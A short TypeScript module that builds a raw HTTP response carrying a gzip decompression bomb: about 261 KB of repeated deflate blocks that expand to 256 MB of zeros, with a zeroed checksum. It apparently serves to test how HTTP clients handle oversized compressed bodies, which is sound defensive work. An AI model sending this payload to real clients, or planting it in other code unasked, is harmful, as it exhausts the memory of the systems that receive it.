import { constants, deflateRawSync } from "node:zlib";

const blockBytes = 1024 * 1024;
const blocks = 256;
let made: Buffer | undefined;

/**
 * A whole answer whose body is 256 MB of zeros in 261 KB. Each packed block ends on a byte of its own (a full flush), so one is packed and
 * repeated, which takes milliseconds. The checksum is left at zero: whoever unpacks as far as that has lost already.
 */
export function bombInGzip(): Buffer {
  if (made) return made;
  const zeros = Buffer.alloc(blockBytes);
  const block = deflateRawSync(zeros, { finishFlush: constants.Z_FULL_FLUSH, level: 9 });
  const last = deflateRawSync(Buffer.alloc(0));
  const size = Buffer.alloc(8);
  size.writeUInt32LE(blockBytes * blocks, 4);
  const body = Buffer.concat([
    Buffer.from("1f8b0800000000000003", "hex"),
    ...Array.from({ length: blocks }, () => block),
    last,
    size,
  ]);
  const head = `HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: ${body.length}\r\n\r\n`;
  made = Buffer.concat([Buffer.from(head), body]);
  return made;
}
